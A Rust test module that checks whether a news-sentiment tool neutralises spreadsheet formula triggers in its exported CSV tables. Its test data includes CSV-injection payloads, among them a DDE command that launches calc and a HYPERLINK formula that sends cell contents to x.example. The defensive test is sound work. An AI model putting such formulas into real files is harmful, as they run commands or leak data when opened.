//! Cells that a spreadsheet would run: none may begin with a trigger, in no table.

use std::fs;

use crate::check::{Tally, child};
use crate::support::{Sheet, bytes_under};

/// What makes a spreadsheet run a cell (OWASP, "CSV Injection"), in both widths.
const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const BEFORE: &[&str] = &["", " ", "\u{a0}", "\"", "'", "\u{feff}", "\u{200b}"];
const BEHIND: &[&str] = &["cmd|' /C calc'!A0", "HYPERLINK(\"https://x.example/?\"&A1,\"here\")", "SUM(1+1)*cmd"];

/// The range of a balance in the codebook: our own words, which no spreadsheet takes for a formula.
const RANGE: &str = "-1 to 1";

const COLUMNS: &[&str] = &["id", "outlet", "event", "title", "author", "url"];

fn formulas() -> Vec<String> {
    let mut formulas = Vec::new();
    for trigger in TRIGGERS {
        for before in BEFORE {
            formulas.extend(BEHIND.iter().map(|it| format!("{before}{trigger}{it}")));
        }
    }
    assert!(formulas.len() >= 120);
    formulas
}

pub fn run(tally: &mut Tally) {
    let folder = tally.folder().to_owned();
    let formulas = formulas();
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(COLUMNS.iter().chain(["date", "text"].iter())).unwrap();
    for (i, formula) in formulas.iter().enumerate() {
        // two articles an event, so that outlets are compared
        let mut row: Vec<String> = COLUMNS.iter().map(|_| formula.clone()).collect();
        row[0] = format!("{formula}{i}");
        row[1] = format!("{formula}{}", i % 4);
        row[2] = formulas[i / 2 * 2].clone();
        row.push(formula.clone());
        row.push(format!(
            "{formula}\n\n-- Bo (@bo) May 3, 2020\n\nTalks number {i} began at the border on Monday; =hope and -fear."
        ));
        writer.write_record(&row).unwrap();
    }
    let mut table = writer.into_inner().unwrap();
    table.extend(b"=1+1,@x,-y,+z\n=1+1,North,,,,,,\n"); // two rows that are rejected
    fs::write(folder.join("=1+1.csv"), &table).unwrap();
    fs::write(folder.join("@list.csv"), "category,pattern\n=1+1,talks\n@sum,hope\n-fear,fear\n+plus,border\n").unwrap();
    let study = ["--lexicon", "@list.csv", "--lexicon", "sentiment-news"];
    let arguments = ["run", "=1+1.csv", "-o", "out", "-q", "--resamples", "20", "--permutations", "20"];
    let ended = child(&folder, &[&arguments[..], &study].concat());
    tally.record("run", ended.map(drop));
    let scored = child(&folder, &[&["score", "=1+1.csv", "-q"][..], &study].concat());
    tally.record("score", scored.map(|it| fs::write(folder.join("out/score.csv"), it.out).unwrap()));

    let mut n_cells = 0;
    for (file, bytes) in bytes_under(&folder.join("out")).iter().filter(|it| it.0.ends_with(".csv")) {
        if file.starts_with("lexicons/") {
            continue; // a copy of the user's own file
        }
        let sheet = Sheet::parse(bytes);
        let all = sheet.rows.iter().flatten().chain(&sheet.header);
        let bad: Vec<&String> =
            all.filter(|it| it.starts_with(TRIGGERS) && it.parse::<f64>().is_err() && *it != RANGE).collect();
        n_cells += sheet.rows.len() * sheet.header.len();
        let shown = format!("{} cells, such as {:?}", bad.len(), &bad[..bad.len().min(5)]);
        tally.record(file, if bad.is_empty() { Ok(()) } else { Err(shown) });
    }
    tally.note(format!("{n_cells} cells looked at"));

    let articles = Sheet::parse(&fs::read(folder.join("out/tables/articles.csv")).unwrap());
    for column in ["title", "author", "url"] {
        for (i, formula) in formulas.iter().enumerate() {
            let row = (0..articles.rows.len())
                .find(|&it| articles.cell(it, "article_id").ends_with(&format!("{}{i}", formula.trim())));
            let found = row.map(|it| articles.cell(it, column));
            let expected = formula.trim();
            let is_right = found.is_some_and(|it| it == expected || it.strip_prefix('\'') == Some(expected));
            tally.record(column, if is_right { Ok(()) } else { Err(format!("{found:?}, expected {expected:?}")) });
        }
    }
}
